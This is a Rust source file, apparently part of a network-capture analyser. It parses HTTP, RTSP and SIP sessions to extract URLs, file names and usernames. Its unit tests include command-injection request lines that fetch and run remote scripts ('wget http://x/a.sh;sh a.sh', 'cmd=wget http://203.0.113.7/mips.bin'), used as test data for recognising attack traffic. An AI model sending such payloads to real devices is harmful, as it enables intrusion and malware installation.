//! The HTTP, RTSP and SIP descriptors and their parser: both directions of a session, message
//! after message (see the module docs of `http`).

use std::collections::VecDeque;

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use pcap_protocol::session::App;

use super::body::{self, Body};
use super::flavor::{Flavor, flavor};
use super::head::{self, Start};
use super::multipart::Multipart;
use crate::session::packet::TCP;
use crate::session::proto::values::{Head as Buffer, filename_of_path, filename_param};
use crate::session::proto::{Dir, Found, Inspect, List, Probe, Protocol, Transports, Wants, clean};

pub static HTTP: Protocol = Protocol {
    app: App::Http,
    transports: Transports::Tcp,
    ports: &[80, 8080, 8000],
    probe: Some(|p| is(p, Flavor::Http)),
    parser: Some(|transport| Box::new(Parser::new(Flavor::Http, transport))),
};

pub static RTSP: Protocol = Protocol {
    app: App::Rtsp,
    transports: Transports::Both,
    ports: &[554],
    probe: Some(|p| is(p, Flavor::Rtsp)),
    parser: Some(|transport| Box::new(Parser::new(Flavor::Rtsp, transport))),
};

/// The parser of SSDP's HTTP-shaped datagrams (`ssdp.rs`).
pub fn ssdp_parser() -> Box<dyn Inspect> {
    Box::new(Parser::new(Flavor::Http, crate::session::packet::UDP))
}

pub static SIP: Protocol = Protocol {
    app: App::Sip,
    transports: Transports::Both,
    ports: &[5060, 5061],
    probe: Some(|p| is(p, Flavor::Sip)),
    parser: Some(|transport| Box::new(Parser::new(Flavor::Sip, transport))),
};

fn is(p: &Probe<'_>, want: Flavor) -> bool {
    flavor(p.data) == Some(want)
}

/// Bytes of one message head kept at most.
pub const HEADER_LIMIT: usize = 8 * 1024;
/// Requests waiting for their responses at most (pipelining).
const MAX_PENDING: usize = 64;

/// Where one direction of the session is.
#[derive(Debug)]
enum Phase {
    /// Reading a message head (these bytes of it so far).
    Head(Buffer),
    /// A body, and the upload scanner of a multipart one.
    Body(Body, Option<Box<Multipart>>),
    /// Nothing more to read in this direction.
    Done,
}

/// What a response needs to know of its request.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Asked {
    Head,
    Connect,
    Other,
}

/// Both directions of a session, message after message.
#[derive(Debug)]
struct Parser {
    flavor: Flavor,
    tcp: bool,
    sides: [Phase; 2],
    /// Requests not answered yet, oldest first.
    pending: VecDeque<Asked>,
}

impl Parser {
    fn new(flavor: Flavor, transport: u8) -> Self {
        Parser {
            flavor,
            tcp: transport == TCP,
            sides: [
                Phase::Head(Buffer::default()),
                Phase::Head(Buffer::default()),
            ],
            pending: VecDeque::new(),
        }
    }

    /// Reads `data` of `dir`, message after message.
    fn read(&mut self, dir: Dir, mut data: &[u8], found: &mut Found) {
        let d = dir.index();
        while !data.is_empty() {
            self.sides[d] = match std::mem::replace(&mut self.sides[d], Phase::Done) {
                Phase::Done => return,
                Phase::Body(mut body, mut upload) => {
                    let skipped = body.skip(data, &mut |content| {
                        if let Some(m) = upload.as_mut() {
                            m.feed(content, found);
                        }
                    });
                    match skipped {
                        Ok(s) => {
                            data = &data[s.used..];
                            if s.ended {
                                Phase::Head(Buffer::default())
                            } else {
                                Phase::Body(body, upload)
                            }
                        }
                        Err(_) => Phase::Done,
                    }
                }
                Phase::Head(mut buffer) => {
                    // A head that starts in `data` is read from it, and kept only if it is cut.
                    let direct = buffer.bytes().is_empty();
                    let before = buffer.bytes().len();
                    if !direct {
                        buffer.extend(data, HEADER_LIMIT);
                    }
                    let bytes = if direct {
                        &data[..data.len().min(HEADER_LIMIT)]
                    } else {
                        buffer.bytes()
                    };
                    match head::parse(bytes) {
                        Ok(Some((len, h))) => {
                            data = &data[len.saturating_sub(before).min(data.len())..];
                            self.message(dir, &h, found)
                        }
                        // Not a message, or a head too long to be one: this direction is over.
                        Err(_) => Phase::Done,
                        Ok(None) if bytes.len() >= HEADER_LIMIT => Phase::Done,
                        Ok(None) => {
                            if direct {
                                buffer.extend(data, HEADER_LIMIT);
                            }
                            self.sides[d] = Phase::Head(buffer);
                            return;
                        }
                    }
                }
            };
        }
    }

    /// What one message head gives, and where its direction goes next.
    fn message(&mut self, dir: Dir, h: &head::Head<'_>, found: &mut Found) -> Phase {
        match (dir, h.start) {
            (Dir::ToServer, Start::Request { method, target }) => {
                self.request(method, target, h, found);
                let asked = match method {
                    m if m.eq_ignore_ascii_case("HEAD") => Asked::Head,
                    m if m.eq_ignore_ascii_case("CONNECT") => Asked::Connect,
                    _ => Asked::Other,
                };
                if self.pending.len() < MAX_PENDING {
                    self.pending.push_back(asked);
                }
                request_body(h)
            }
            (Dir::ToClient, Start::Response { code }) => {
                for value in h.all("content-disposition") {
                    if let Some(name) = filename_param(value) {
                        found.add(List::Filenames, name);
                    }
                }
                self.response_body(code, h)
            }
            // A request from the server or a response from the client: not this protocol.
            _ => Phase::Done,
        }
    }

    /// The URL, file name and user of a request.
    fn request(&self, method: &str, target: &str, h: &head::Head<'_>, found: &mut Found) {
        match self.flavor {
            // RTSP and SIP: the request's URI is the URL.
            Flavor::Rtsp => found.add(List::Urls, clean(target.as_bytes())),
            // SIP: and the user part of the caller's address (tshark's `sip.from.user`).
            Flavor::Sip => {
                found.add(List::Urls, clean(target.as_bytes()));
                if let Some(user) = h.get("from").or_else(|| h.get("f")).and_then(sip_user) {
                    found.add(List::Users, user);
                }
            }
            Flavor::Http => {
                let host = h.get("host").map(|v| clean(v.as_bytes()));
                found.add(List::Urls, url(method, target, host.as_deref()));
                if target != "*"
                    && let Some(name) = filename_of_path(target)
                {
                    found.add(List::Filenames, name);
                }
            }
        }
        for value in h.all("authorization").chain(h.all("proxy-authorization")) {
            if let Some(user) = credentials_user(value) {
                found.add(List::Users, user);
            }
        }
    }

    /// One datagram's message: a request's URL and user, a response's `Location` (where an
    /// SSDP device describes itself) and file name.
    fn datagram(&self, data: &[u8], found: &mut Found) {
        let Ok(Some((_, h))) = head::parse(data) else {
            return;
        };
        match h.start {
            Start::Request { method, target } => self.request(method, target, &h, found),
            Start::Response { .. } => {
                for value in h.all("content-disposition") {
                    if let Some(name) = filename_param(value) {
                        found.add(List::Filenames, name);
                    }
                }
            }
        }
        if self.flavor == Flavor::Http
            && let Some(location) = h.get("location")
        {
            found.add(List::Urls, clean(location.as_bytes()));
        }
    }

    /// How a response's body is delimited (RFC 9112 section 6.3), after the request it answers.
    fn response_body(&mut self, code: u16, h: &head::Head<'_>) -> Phase {
        // An interim response (100 Continue) is followed by the final one for the same request.
        if (100..200).contains(&code) && code != 101 {
            return Phase::Head(Buffer::default());
        }
        let asked = self.pending.pop_front().unwrap_or(Asked::Other);
        if code == 101 || (asked == Asked::Connect && (200..300).contains(&code)) {
            // Another protocol follows (a tunnel, WebSocket, h2c): nothing more to read here.
            self.sides[Dir::ToServer.index()] = Phase::Done;
            return Phase::Done;
        }
        if asked == Asked::Head || code == 204 || code == 304 {
            return Phase::Head(Buffer::default());
        }
        match framing(h) {
            Some(body) => body_phase(body),
            None if self.flavor == Flavor::Http => Phase::Body(Body::ToClose, None),
            // RTSP and SIP messages without Content-Length have no body.
            None => Phase::Head(Buffer::default()),
        }
    }
}

/// The user part of the SIP or SIPS URI in an address header (`"Bob" <sip:bob@lab;x=1>;tag=9`),
/// without a password (`user:password@`).
pub fn sip_user(value: &str) -> Option<String> {
    let lower = value.to_ascii_lowercase();
    let start = lower
        .find("sip:")
        .map(|i| i + 4)
        .or_else(|| lower.find("sips:").map(|i| i + 5))?;
    let rest = &value[start..];
    let end = rest.find(['>', ';', ' ', ',']).unwrap_or(rest.len());
    let (user, _host) = rest[..end].split_once('@')?;
    let user = user.split(':').next().unwrap_or_default();
    (!user.is_empty()).then(|| clean(user.as_bytes()))
}

/// How a request's body is delimited: by its headers, else it has none. An upload's parts
/// are looked for in it.
fn request_body(h: &head::Head<'_>) -> Phase {
    let Some(body) = framing(h) else {
        return Phase::Head(Buffer::default());
    };
    match body_phase(body) {
        Phase::Body(body, _) => {
            let upload = h.get("content-type").and_then(Multipart::of);
            Phase::Body(body, upload.map(Box::new))
        }
        phase => phase,
    }
}

fn body_phase(body: Body) -> Phase {
    match body {
        Body::Length(0) => Phase::Head(Buffer::default()),
        body => Phase::Body(body, None),
    }
}

/// The body framing the headers give: chunked if the last transfer coding is, else the
/// `Content-Length`.
fn framing(h: &head::Head<'_>) -> Option<Body> {
    let chunked = h
        .all("transfer-encoding")
        .flat_map(|v| v.split(','))
        .last()
        .is_some_and(|c| c.trim().eq_ignore_ascii_case("chunked"));
    if chunked {
        return Some(Body::Chunked(body::Chunked::Size(Vec::new())));
    }
    h.get("content-length")
        .and_then(|v| v.trim().parse().ok())
        .map(Body::Length)
}

/// The URL of a request: an absolute target as it is, else `http://<Host><target>`.
fn url(method: &str, target: &str, host: Option<&str>) -> String {
    let target = clean(target.as_bytes());
    let lower = target.to_ascii_lowercase();
    if lower.starts_with("http://") || lower.starts_with("https://") {
        return target;
    }
    if method.eq_ignore_ascii_case("CONNECT") {
        return format!("http://{target}/");
    }
    format!("http://{}{target}", host.unwrap_or_default())
}

impl Inspect for Parser {
    fn feed(&mut self, dir: Dir, data: &[u8], found: &mut Found) -> Wants {
        // Over UDP (SIP, RTSP, SSDP), each datagram is a message of its own.
        if !self.tcp {
            self.datagram(data, found);
            return Wants::More;
        }
        self.read(dir, data, found);
        if self.sides.iter().all(|s| matches!(s, Phase::Done)) {
            Wants::Done
        } else {
            Wants::More
        }
    }

    fn wants(&self, dir: Dir) -> bool {
        !matches!(self.sides[dir.index()], Phase::Done)
    }

    /// A gap inside a body of known length is jumped over like the rest of the body (an
    /// upload's parts are no longer looked for); anywhere else, the direction is over.
    fn gap(&mut self, dir: Dir, len: u64) -> Wants {
        let side = &mut self.sides[dir.index()];
        *side = match std::mem::replace(side, Phase::Done) {
            Phase::Body(Body::Length(left), _) if left > len => {
                Phase::Body(Body::Length(left - len), None)
            }
            Phase::Body(Body::Length(left), _) if left == len => Phase::Head(Buffer::default()),
            Phase::Body(Body::Chunked(body::Chunked::Data(left)), _) if left > len => {
                Phase::Body(Body::Chunked(body::Chunked::Data(left - len)), None)
            }
            Phase::Body(Body::ToClose, _) => Phase::Body(Body::ToClose, None),
            _ => Phase::Done,
        };
        if self.sides.iter().all(|s| matches!(s, Phase::Done)) {
            Wants::Done
        } else {
            Wants::More
        }
    }

    fn buffered(&self) -> usize {
        let sides: usize = self
            .sides
            .iter()
            .map(|s| match s {
                Phase::Head(buffer) => buffer.heap_bytes(),
                Phase::Body(body, upload) => {
                    body.heap_bytes()
                        + upload
                            .as_ref()
                            .map_or(0, |m| std::mem::size_of::<Multipart>() + m.heap_bytes())
                }
                Phase::Done => 0,
            })
            .sum();
        sides + self.pending.capacity() * std::mem::size_of::<Asked>()
    }
}

/// The user of credentials: `Basic` (the name before the `:`), `NTLM` or `Negotiate` (the
/// NTLMSSP AUTHENTICATE message's `DOMAIN\user`; a Kerberos ticket gives none here).
fn credentials_user(value: &str) -> Option<String> {
    let (scheme, token) = value.trim().split_once(' ')?;
    let decoded = STANDARD.decode(token.trim()).ok()?;
    if scheme.eq_ignore_ascii_case("basic") {
        let user = decoded.split(|&b| b == b':').next()?;
        return Some(clean(user)).filter(|u| !u.is_empty());
    }
    if scheme.eq_ignore_ascii_case("ntlm") || scheme.eq_ignore_ascii_case("negotiate") {
        return crate::session::proto::ntlmssp::find_authenticate(&decoded)?.login();
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    /// `client` and `server` fed to one parser in pieces of `piece` bytes, the client's first.
    fn run(client: &[u8], server: &[u8], piece: usize) -> (Found, Wants) {
        let mut parser = Parser::new(Flavor::Http, TCP);
        let mut found = Found::default();
        let mut wants = Wants::More;
        for (dir, data) in [(Dir::ToServer, client), (Dir::ToClient, server)] {
            for part in data.chunks(piece) {
                wants = parser.feed(dir, part, &mut found);
            }
        }
        (found, wants)
    }

    #[test]
    fn every_request_of_a_keep_alive_session_and_every_disposition_are_found() {
        let client = b"GET /robots.txt HTTP/1.1\r\nHost: lab.example\r\n\r\n\
POST /up HTTP/1.1\r\nHost: lab.example\r\nContent-Length: 11\r\n\r\nhello world\
GET /files/report%201.pdf?v=2 HTTP/1.1\r\nHost: lab.example:8081\r\nAuthorization: Basic YWxpY2U6c2VjcmV0\r\n\r\n";
        let server = b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nUser-\
HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 204 No Content\r\n\r\n\
HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nContent-Disposition: attachment; filename=\"fw.bin\"\r\n\r\n\
4\r\nabcd\r\n0\r\n\r\n";
        for piece in [1, 5, 64, 10_000] {
            let (f, wants) = run(client, server, piece);
            assert_eq!(
                f.urls,
                [
                    "http://lab.example/robots.txt",
                    "http://lab.example/up",
                    "http://lab.example:8081/files/report%201.pdf?v=2"
                ],
                "pieces of {piece}"
            );
            assert_eq!(f.filenames, ["robots.txt", "up", "report 1.pdf", "fw.bin"]);
            assert_eq!(f.users, ["alice"]);
            assert_eq!(wants, Wants::More, "a keep-alive session waits for more");
        }
    }

    #[test]
    fn pipelined_requests_a_head_answer_and_a_connect_are_followed() {
        let client = b"HEAD /a HTTP/1.1\r\nHost: h\r\n\r\nGET /b HTTP/1.1\r\nHost: h\r\n\r\n";
        // The HEAD answer has a Content-Length but no body; the next response follows it.
        let server = b"HTTP/1.1 200 OK\r\nContent-Length: 99\r\n\r\n\
HTTP/1.1 200 OK\r\nContent-Length: 2\r\nContent-Disposition: inline; filename=b.txt\r\n\r\nok";
        let (f, _) = run(client, server, 3);
        assert_eq!(f.urls, ["http://h/a", "http://h/b"]);
        assert_eq!(f.filenames, ["a", "b", "b.txt"]);

        let (f, wants) = run(
            b"CONNECT secure-assets.example.com:443 HTTP/1.1\r\nHost: secure-assets.example.com:443\r\n\r\n\x16\x03\x01",
            b"HTTP/1.1 200 Connection established\r\n\r\n\x16\x03\x03",
            7,
        );
        assert_eq!(f.urls, ["http://secure-assets.example.com:443/"]);
        assert_eq!(wants, Wants::Done, "what follows a CONNECT is not HTTP");
    }

    #[test]
    fn an_absolute_target_is_the_url_and_garbage_ends_a_direction() {
        let (f, _) = run(
            b"GET http://other.example/x HTTP/1.1\r\nHost: proxy\r\n\r\n",
            b"\x00\x01garbage",
            100,
        );
        assert_eq!(f.urls, ["http://other.example/x"]);
        let mut parser = Parser::new(Flavor::Http, TCP);
        parser.feed(Dir::ToClient, b"\x00\x01garbage\n", &mut Found::default());
        assert!(!parser.wants(Dir::ToClient) && parser.wants(Dir::ToServer));
    }

    #[test]
    fn methods_beyond_the_usual_targets_with_spaces_and_evasive_responses_are_read() {
        for line in [
            &b"NOTIFY /upnp/event HTTP/1.1\r\n"[..],
            b"SUBSCRIBE /evt HTTP/1.1\r\n",
            b"PROPFIND /dav/ HTTP/1.1\r\n",
            b"\r\nGET / HTTP/1.1\r\n",
            b"GET /cgi-bin/;wget http://x/a.sh;sh a.sh HTTP/1.0\r\n",
            b"HTTP/1.2 200 ok\r\n",
        ] {
            assert_eq!(
                flavor(line),
                Some(Flavor::Http),
                "{}",
                String::from_utf8_lossy(line)
            );
        }
        let (f, _) = run(
            b"\r\nGET /cgi-bin/x.cgi?cmd=wget http://203.0.113.7/mips.bin HTTP/1.0\r\nHost: cam\r\n\r\n",
            b"HTTP/1.2 200 ok\nContent-Disposition: attachment;\n filename=\"evasive.exe\"\nContent-Length: 0\n\n",
            4,
        );
        assert_eq!(
            f.urls,
            ["http://cam/cgi-bin/x.cgi?cmd=wget http://203.0.113.7/mips.bin"]
        );
        assert_eq!(f.filenames, ["x.cgi", "evasive.exe"]);
    }

    #[test]
    fn ntlm_and_negotiate_credentials_give_domain_and_user() {
        let message = crate::session::proto::ntlmssp::tests::message("LAB", "bob", "WS");
        let token = STANDARD.encode(&message);
        let (f, _) = run(
            format!("GET /ews HTTP/1.1\r\nHost: mail\r\nAuthorization: NTLM {token}\r\n\r\nGET /x HTTP/1.1\r\nHost: mail\r\nProxy-Authorization: Negotiate {token}\r\n\r\n").as_bytes(),
            b"",
            9,
        );
        assert_eq!(f.users, ["LAB\\bob"]);
    }

    #[test]
    fn the_file_names_of_an_upload_are_found_and_its_body_skipped() {
        let body = "--b1\r\nContent-Disposition: form-data; name=\"f\"; filename=\"up.txt\"\r\n\r\nGET /fake HTTP/1.1\r\n\r\n\r\n--b1--\r\n";
        let client = format!(
            "POST /upload HTTP/1.1\r\nHost: h\r\nContent-Type: multipart/form-data; boundary=b1\r\nContent-Length: {}\r\n\r\n{body}GET /after HTTP/1.1\r\nHost: h\r\n\r\n",
            body.len()
        );
        let (f, _) = run(client.as_bytes(), b"", 5);
        assert_eq!(f.urls, ["http://h/upload", "http://h/after"]);
        assert_eq!(f.filenames, ["upload", "up.txt", "after"]);
    }

    #[test]
    fn rtsp_and_sip_are_told_apart_from_http() {
        assert_eq!(
            flavor(b"DESCRIBE rtsp://cam/stream RTSP/1.0\r\n"),
            Some(Flavor::Rtsp)
        );
        assert_eq!(
            flavor(b"INVITE sip:bob@example.com SIP/2.0\r\n"),
            Some(Flavor::Sip)
        );
        assert_eq!(flavor(b"SSH-2.0-OpenSSH\r\n"), None);
        let mut parser = Parser::new(Flavor::Rtsp, TCP);
        let mut f = Found::default();
        parser.feed(
            Dir::ToServer,
            b"OPTIONS rtsp://cam/s RTSP/1.0\r\nCSeq: 1\r\n\r\nDESCRIBE rtsp://cam/t RTSP/1.0\r\nCSeq: 2\r\n\r\n",
            &mut f,
        );
        assert_eq!(f.urls, ["rtsp://cam/s", "rtsp://cam/t"]);
    }

    #[test]
    fn the_sip_caller_is_the_user_part_of_from() {
        assert_eq!(
            sip_user("\"Bob\" <sip:bob@lab.test>;tag=1").as_deref(),
            Some("bob")
        );
        assert_eq!(
            sip_user("<SIPS:alice:pw@lab.test;transport=tls>").as_deref(),
            Some("alice")
        );
        assert_eq!(sip_user("sip:1001@10.0.0.1").as_deref(), Some("1001"));
        assert_eq!(sip_user("<sip:lab.test>"), None, "no user part");
        assert_eq!(sip_user("tel:+123"), None);
    }
}
